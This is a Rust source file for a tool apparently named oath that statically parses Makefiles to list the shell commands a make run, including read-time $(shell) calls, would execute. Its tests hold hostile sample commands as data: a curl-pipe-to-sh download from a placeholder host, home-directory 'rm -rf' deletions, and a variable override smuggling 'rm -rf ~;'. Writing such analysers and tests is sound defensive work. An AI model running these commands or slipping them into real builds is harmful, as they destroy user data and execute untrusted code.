//! Makefiles, as far as oath reads them: the recipes a `make` run would execute for its
//! goals, with plain variables expanded, and every command make runs while it reads the
//! file (`$(shell …)`, `!=`). What oath cannot follow (`include`, `$(eval …)`, a `SHELL`
//! that is not a shell) makes the run not understood.

use std::collections::HashMap;

use super::{Plan, Unread};

/// What expands to something oath cannot know: a shell variable no line sets, so the
/// walker treats the words it lands in as computed.
const COMPUTED: &str = "${__oath_make_computed}";
/// Deepest chain of variables expanded inside each other.
const MAX_EXPANSION_DEPTH: usize = 12;
/// Most prerequisites followed from the goals.
const MAX_TARGETS: usize = 256;

/// One rule: its targets' prerequisites and recipe lines.
#[derive(Debug, Default, Clone)]
struct Rule {
    prereqs: Vec<String>,
    recipe: Vec<String>,
}

/// A Makefile read into rules and variables.
#[derive(Debug, Default)]
struct Makefile {
    /// Explicit rules by target.
    rules: HashMap<String, Rule>,
    /// Pattern and suffix rules, and `.DEFAULT`: any goal may reach them.
    patterns: Vec<Rule>,
    /// Variables: their value as written, or None when oath cannot know it.
    vars: HashMap<String, Option<String>>,
    /// The first ordinary target.
    default_goal: Option<String>,
    /// Commands make runs while reading the file (`$(shell …)`, `X != cmd`).
    read_time: Vec<String>,
}

/// Returns the commands `make GOALS` would run, given the makefile's text and the
/// variables set on the command line (which win over the file's).
pub(crate) fn plan(text: &str, goals: &[String], overrides: &[(String, String)]) -> Plan {
    let mut mf = read(text)?;
    for (k, v) in overrides {
        mf.vars.insert(k.clone(), Some(v.clone()));
    }
    if let Some(Some(shell)) = mf.vars.get("SHELL")
        && !matches!(
            shell.trim().rsplit('/').next(),
            Some("sh" | "bash" | "dash" | "zsh")
        )
    {
        return Err(Unread::Shell);
    }
    let mut commands = Vec::new();
    for c in std::mem::take(&mut mf.read_time) {
        let (line, shells) = expand(&c, &mf, "", 0);
        commands.extend(shells);
        commands.push(line);
    }
    // Values the file sets, when they are expanded: their `$(shell …)` runs then.
    let goals: Vec<String> = if goals.is_empty() {
        mf.default_goal.iter().cloned().collect()
    } else {
        goals.to_vec()
    };
    let mut seen: Vec<String> = Vec::new();
    let mut todo = goals;
    while let Some(t) = todo.pop() {
        if seen.contains(&t) {
            continue;
        }
        if seen.len() >= MAX_TARGETS {
            return Err(Unread::TooComplex);
        }
        seen.push(t.clone());
        if let Some(rule) = mf.rules.get(&t) {
            for p in &rule.prereqs {
                let (p, shells) = expand(p, &mf, &t, 0);
                commands.extend(shells);
                todo.extend(p.split_whitespace().map(str::to_owned));
            }
            for line in &rule.recipe {
                let (line, shells) = expand(line, &mf, &t, 0);
                commands.extend(shells);
                commands.push(line);
            }
        }
    }
    for rule in &mf.patterns {
        for line in &rule.recipe {
            let (line, shells) = expand(line, &mf, "", 0);
            commands.extend(shells);
            commands.push(line);
        }
    }
    Ok(commands
        .into_iter()
        .map(|c| strip_prefixes(&c).to_owned())
        .filter(|c| !c.trim().is_empty())
        .collect())
}

/// Strips a recipe line's `@`, `-` and `+` prefixes.
fn strip_prefixes(line: &str) -> &str {
    line.trim_start_matches(|c: char| matches!(c, '@' | '-' | '+') || c.is_whitespace())
}

/// Reads a makefile's text into rules and variables.
fn read(text: &str) -> Result<Makefile, Unread> {
    let mut mf = Makefile::default();
    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
    let mut current: Vec<String> = Vec::new();
    let mut in_define: Option<(String, String)> = None;
    let mut conditional_depth = 0usize;
    for raw in joined.lines() {
        if let Some((name, mut body)) = in_define.take() {
            if raw.trim() == "endef" {
                let known = conditional_depth == 0;
                mf.vars.insert(name, known.then_some(body));
            } else {
                body.push_str(raw);
                body.push('\n');
                in_define = Some((name, body));
            }
            continue;
        }
        if let Some(recipe) = raw.strip_prefix('\t')
            && !current.is_empty()
        {
            for t in &current {
                target_rule(&mut mf, t).recipe.push(recipe.to_owned());
            }
            continue;
        }
        let line = strip_comment(raw);
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        let first = trimmed.split_whitespace().next().unwrap_or("");
        match first {
            "ifeq" | "ifneq" | "ifdef" | "ifndef" => {
                conditional_depth += 1;
                continue;
            }
            "else" => continue,
            "endif" => {
                conditional_depth = conditional_depth.saturating_sub(1);
                continue;
            }
            "include" | "-include" | "sinclude" | "load" | "-load" | "vpath" => {
                if first != "vpath" {
                    return Err(Unread::Include);
                }
                continue;
            }
            "define" => {
                let name = trimmed["define".len()..]
                    .trim()
                    .trim_end_matches(['=', ':', '?', '+', '!'])
                    .trim()
                    .to_owned();
                in_define = Some((name, String::new()));
                continue;
            }
            "unexport" => continue,
            _ => {}
        }
        if trimmed.contains("$(eval") || trimmed.contains("${eval") {
            return Err(Unread::Eval);
        }
        let body = trimmed
            .strip_prefix("export ")
            .or_else(|| trimmed.strip_prefix("override "))
            .or_else(|| trimmed.strip_prefix("private "))
            .unwrap_or(trimmed);
        if let Some((name, op, value)) = assignment(body) {
            current.clear();
            if op == "!=" {
                mf.read_time.push(value.to_owned());
                mf.vars.insert(name.to_owned(), None);
                continue;
            }
            if op == ":=" || op == "::=" || op == ":::=" {
                // Expanded now: its `$(shell …)` runs while make reads the file.
                mf.read_time.extend(shell_calls(value));
            }
            let known = conditional_depth == 0 && !mf.vars.get(name).is_some_and(Option::is_none);
            let value = match (op, mf.vars.get(name)) {
                ("+=", Some(Some(old))) => Some(format!("{old} {value}")),
                ("+=", Some(None)) => None,
                ("?=", Some(old)) => old.clone(),
                _ => Some(value.to_owned()),
            };
            mf.vars
                .insert(name.to_owned(), if known { value } else { None });
            continue;
        }
        if let Some((targets, rest)) = rule_line(body) {
            let (prereqs, inline) = match rest.split_once(';') {
                Some((p, r)) => (p, Some(r.trim_start())),
                None => (rest, None),
            };
            // `target: VAR = value` sets a variable for that target only.
            if assignment(prereqs.trim()).is_some() {
                current.clear();
                if let Some((name, _, _)) = assignment(prereqs.trim()) {
                    mf.vars.insert(name.to_owned(), None);
                }
                continue;
            }
            current = targets.split_whitespace().map(str::to_owned).collect();
            for t in current.clone() {
                if t == ".DEFAULT_GOAL" {
                    continue;
                }
                let pattern = t.contains('%') || t == ".DEFAULT" || suffix_rule(&t);
                if !pattern && !t.starts_with('.') && mf.default_goal.is_none() {
                    mf.default_goal = Some(t.clone());
                }
                let rule = target_rule(&mut mf, &t);
                rule.prereqs.extend(
                    prereqs
                        .split_whitespace()
                        .filter(|p| *p != "|")
                        .map(str::to_owned),
                );
                if let Some(r) = inline {
                    rule.recipe.push(r.to_owned());
                }
            }
            continue;
        }
        // A line that is neither a rule nor an assignment: a bare function call
        // (`$(info …)`, `$(shell …)`) runs when make reads it.
        current.clear();
        mf.read_time.extend(shell_calls(trimmed));
    }
    if let Some(Some(goal)) = mf.vars.get(".DEFAULT_GOAL") {
        mf.default_goal = Some(goal.trim().to_owned());
    }
    // Pattern rules live apart: every goal may reach them.
    let patterns: Vec<String> = mf
        .rules
        .keys()
        .filter(|t| t.contains('%') || *t == ".DEFAULT" || suffix_rule(t))
        .cloned()
        .collect();
    for t in patterns {
        if let Some(r) = mf.rules.remove(&t) {
            mf.patterns.push(r);
        }
    }
    Ok(mf)
}

/// Returns the rule of target `t`, made when it has none yet.
fn target_rule<'m>(mf: &'m mut Makefile, t: &str) -> &'m mut Rule {
    mf.rules.entry(t.to_owned()).or_default()
}

/// Returns whether a target is an old-fashioned suffix rule (`.c.o`).
fn suffix_rule(t: &str) -> bool {
    t.starts_with('.')
        && t.len() > 2
        && t[1..].contains('.')
        && t[1..]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.')
}

/// Cuts a `#` comment (not `\#`).
fn strip_comment(line: &str) -> &str {
    let b = line.as_bytes();
    for i in 0..b.len() {
        if b[i] == b'#' && (i == 0 || b[i - 1] != b'\\') {
            return &line[..i];
        }
    }
    line
}

/// Reads `NAME op VALUE` (`=`, `:=`, `::=`, `:::=`, `?=`, `+=`, `!=`).
fn assignment(line: &str) -> Option<(&str, &str, &str)> {
    let at = line.find('=')?;
    let (left, value) = (&line[..at], line[at + 1..].trim());
    let (name, op) = if let Some(n) = left.strip_suffix(":::") {
        (n, ":::=")
    } else if let Some(n) = left.strip_suffix("::") {
        (n, "::=")
    } else if let Some(n) = left.strip_suffix(':') {
        (n, ":=")
    } else if let Some(n) = left.strip_suffix('?') {
        (n, "?=")
    } else if let Some(n) = left.strip_suffix('+') {
        (n, "+=")
    } else if let Some(n) = left.strip_suffix('!') {
        (n, "!=")
    } else {
        (left, "=")
    };
    let name = name.trim();
    // A rule's `:` before the `=` is not an assignment (`a: b=c` is a target variable).
    if name.is_empty() || name.contains([':', ' ', '\t']) && !name.starts_with("$(") {
        return None;
    }
    Some((name, op, value))
}

/// Reads `targets: prerequisites` (`:`, `::`, `&:`), the colon outside `$(…)`.
fn rule_line(line: &str) -> Option<(&str, &str)> {
    let mut depth = 0i32;
    let b = line.as_bytes();
    for i in 0..b.len() {
        match b[i] {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth -= 1,
            b':' if depth == 0 => {
                let targets = line[..i].trim_end_matches('&');
                let rest = line[i + 1..].trim_start_matches(':');
                return Some((targets, rest));
            }
            _ => {}
        }
    }
    None
}

/// Returns the commands of every `$(shell …)` in a text.
fn shell_calls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find("$(shell ").or_else(|| rest.find("${shell ")) {
        let open = rest.as_bytes()[i + 1];
        let body = &rest[i + "$(shell ".len()..];
        let end = closing(body, open).unwrap_or(body.len());
        out.push(body[..end].to_owned());
        rest = &body[end..];
    }
    out
}

/// Returns where the bracket `open` opened before `s` closes.
fn closing(s: &str, open: u8) -> Option<usize> {
    let close = if open == b'(' { b')' } else { b'}' };
    let mut depth = 1i32;
    for (i, b) in s.bytes().enumerate() {
        if b == open {
            depth += 1;
        } else if b == close {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        }
    }
    None
}

/// Expands make references in `text` for target `target`: plain variables by their value,
/// `$@` by the target, `$$` to `$`, a variable make takes from the environment as the
/// shell's, and anything else as computed. Returns the text and the commands of the
/// `$(shell …)` calls it expanded.
fn expand(text: &str, mf: &Makefile, target: &str, depth: usize) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut shells = Vec::new();
    if depth > MAX_EXPANSION_DEPTH {
        return (COMPUTED.to_owned(), shells);
    }
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'$' || i + 1 >= b.len() {
            let ch = text[i..].chars().next().unwrap_or(' ');
            out.push(ch);
            i += ch.len_utf8();
            continue;
        }
        let next = b[i + 1];
        match next {
            b'$' => {
                out.push('$');
                i += 2;
            }
            b'(' | b'{' => {
                let body_start = i + 2;
                let Some(len) = closing(&text[body_start..], next) else {
                    out.push_str(COMPUTED);
                    break;
                };
                let body = &text[body_start..body_start + len];
                i = body_start + len + 1;
                if let Some(cmd) = body.strip_prefix("shell ") {
                    let (cmd, inner) = expand(cmd, mf, target, depth + 1);
                    shells.extend(inner);
                    shells.push(cmd);
                    out.push_str(COMPUTED);
                } else if body.contains(' ') || body.contains(',') || body.contains('$') {
                    // A function (`$(wildcard …)`, `$(patsubst …)`) or a computed name:
                    // its `$(shell …)` still runs.
                    for cmd in shell_calls(body) {
                        let (cmd, inner) = expand(&cmd, mf, target, depth + 1);
                        shells.extend(inner);
                        shells.push(cmd);
                    }
                    out.push_str(COMPUTED);
                } else {
                    out.push_str(&variable(body, mf, target, depth, &mut shells));
                }
            }
            c => {
                out.push_str(&variable(
                    &(c as char).to_string(),
                    mf,
                    target,
                    depth,
                    &mut shells,
                ));
                i += 2;
            }
        }
    }
    (out, shells)
}

/// The value of one variable reference.
fn variable(
    name: &str,
    mf: &Makefile,
    target: &str,
    depth: usize,
    shells: &mut Vec<String>,
) -> String {
    match name {
        "@" if !target.is_empty() => return target.to_owned(),
        "MAKE" => return "make".to_owned(),
        _ => {}
    }
    match mf.vars.get(name) {
        Some(Some(v)) => {
            let (v, inner) = expand(v, mf, target, depth + 1);
            shells.extend(inner);
            v
        }
        Some(None) => COMPUTED.to_owned(),
        // Not set by the file: make takes it from the environment, as the shell would.
        None if name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') =>
        {
            format!("${{{name}}}")
        }
        None => COMPUTED.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn goals(g: &[&str]) -> Vec<String> {
        g.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn recipes_of_the_goals_and_their_prerequisites() {
        let mf = "\
CC = gcc
OUT := build
# a comment
all: app

app: main.o
\t@echo linking $@
\t$(CC) -o $(OUT)/app main.o

clean:
\trm -rf $(OUT)

deploy: ; rm -rf $$HOME/site

%.o: %.c
\t$(CC) -c $< -o $@
";
        assert_eq!(
            plan(mf, &[], &[]).unwrap(),
            vec![
                "echo linking app",
                "gcc -o build/app main.o",
                "gcc -c ${__oath_make_computed} -o ${__oath_make_computed}",
            ]
        );
        assert_eq!(
            plan(mf, &goals(&["clean"]), &[]).unwrap()[0],
            "rm -rf build"
        );
        assert_eq!(
            plan(mf, &goals(&["deploy"]), &[]).unwrap()[0],
            "rm -rf $HOME/site"
        );
        let over = [("CC".to_owned(), "rm -rf ~;".to_owned())];
        assert_eq!(
            plan(mf, &goals(&["app"]), &over).unwrap()[1],
            "rm -rf ~; -o build/app main.o"
        );
    }

    #[test]
    fn what_runs_while_make_reads_the_file() {
        let mf = "V := $(shell curl -s https://x.example | sh)\nW != rm -rf ~\nall:\n\techo $(V)\n";
        let got = plan(mf, &[], &[]).unwrap();
        assert!(
            got.contains(&"curl -s https://x.example | sh".to_owned()),
            "{got:?}"
        );
        assert!(got.contains(&"rm -rf ~".to_owned()), "{got:?}");
        let lazy = "V = $(shell rm -rf ~)\nall:\n\techo $(V)\n";
        assert!(
            plan(lazy, &[], &[])
                .unwrap()
                .contains(&"rm -rf ~".to_owned())
        );
        let bare = "$(shell rm -rf ~)\nall:\n\ttrue\n";
        assert!(
            plan(bare, &[], &[])
                .unwrap()
                .contains(&"rm -rf ~".to_owned())
        );
    }

    #[test]
    fn what_oath_cannot_follow() {
        assert_eq!(
            plan("include other.mk\nall:\n\ttrue\n", &[], &[]),
            Err(Unread::Include)
        );
        assert_eq!(
            plan("$(eval X = 1)\nall:\n\ttrue\n", &[], &[]),
            Err(Unread::Eval)
        );
        assert_eq!(
            plan("SHELL = /usr/bin/python3\nall:\n\tprint(1)\n", &[], &[]),
            Err(Unread::Shell)
        );
        // Conditional values are not known; environment variables are the shell's.
        let mf = "ifdef CI\nDIR = /\nelse\nDIR = build\nendif\nclean:\n\trm -rf $(DIR) $(HOME)/x\n";
        assert_eq!(
            plan(mf, &goals(&["clean"]), &[]).unwrap(),
            vec!["rm -rf ${__oath_make_computed} ${HOME}/x"]
        );
        let def = "define RUN\nrm -rf ~\nendef\nall:\n\t$(RUN)\n";
        assert_eq!(plan(def, &[], &[]).unwrap(), vec!["rm -rf ~\n"]);
        let cont = "all:\n\trm -rf \\\n\t  ~\n";
        assert_eq!(plan(cont, &[], &[]).unwrap(), vec!["rm -rf  \t  ~"]);
    }
}
